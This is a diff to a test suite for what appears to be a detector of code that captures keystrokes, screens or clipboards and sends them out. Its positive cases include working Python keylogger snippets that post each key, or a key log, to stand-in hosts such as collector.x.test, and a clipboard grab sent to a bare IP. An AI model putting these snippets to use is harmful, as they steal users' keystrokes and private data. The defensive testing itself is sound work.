@@ -36,6 +36,8 @@ describe('captured screen, clipboard or keys sent', () => {
       'import logging, smtplib\nfrom pynput import keyboard\nLOG = "/tmp/.k.log"\nlogging.basicConfig(filename=LOG, level=logging.DEBUG)\ndef on_press(key):\n    logging.info(str(key))\nkeyboard.Listener(on_press=on_press).start()\ns = smtplib.SMTP("smtp.x.test", 587)\ns.sendmail("a@x.test", "b@x.test", open(LOG).read())\n',
     ],
     ['keys appended to a file, the file posted', 'import requests, keyboard\ndef cb(e):\n    with open("keys.txt", "a") as f:\n        f.write(e.name)\nkeyboard.on_press(cb)\nrequests.post("https://x.test/k", files={"k": open("keys.txt", "rb")})\n'],
+    ['each key posted from the hook\'s callback to a plain domain', 'import requests\nfrom pynput import keyboard\ndef on_press(key):\n    requests.post("https://collector.x.test/k", data={"k": str(key)})\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n'],
+    ['each key posted from a keyboard.hook callback', 'import keyboard, requests\ndef cb(event):\n    requests.get("https://collector.x.test/k", params={"k": event.name})\nkeyboard.hook(cb)\n'],
     ['the clipboard to a public IP address', 'import urllib.request, pyperclip\nclip = pyperclip.paste()\nurllib.request.urlopen("http://203.0.113.7/c", data=clip.encode())\n'],
   ])('%s', (_, text) => {
     expect(flagsOf(text)).toContain('exfiltration');
@@ -47,6 +49,7 @@ describe('captured screen, clipboard or keys sent', () => {
     ['a progress bar that talks to a Telegram bot, capturing nothing', 'import requests\ndef send(token, chat, text):\n    requests.post(f"https://api.telegram.org/bot{token}/sendMessage", data={"chat_id": chat, "text": text})\n'],
     ['an aliased screenshot module beside an unrelated request', 'import requests as _r\nfrom PIL import ImageGrab as _g\ndef snap():\n    return _g.grab()\n_r.get("https://x.test/version")\n'],
     ['a key hook beside a settings file written and an unrelated request', 'import requests, keyboard\nkeyboard.on_press(print)\nwith open("settings.json", "w") as f:\n    f.write("{}")\nrequests.post("https://x.test/k", json={"v": 1})\n'],
+    ['a key hook whose callback only checks for updates elsewhere', 'import requests, keyboard\ndef cb(event):\n    print(event.name)\ndef update():\n    requests.get("https://x.test/version")\nkeyboard.hook(cb)\n'],
     ['a key listener with no network', 'from pynput import keyboard\ndef on_press(key):\n    print(key)\nkeyboard.Listener(on_press=on_press).start()\n'],
   ])('%s stays clean', (_, text) => {
     expect(flagsOf(text)).toEqual([]);
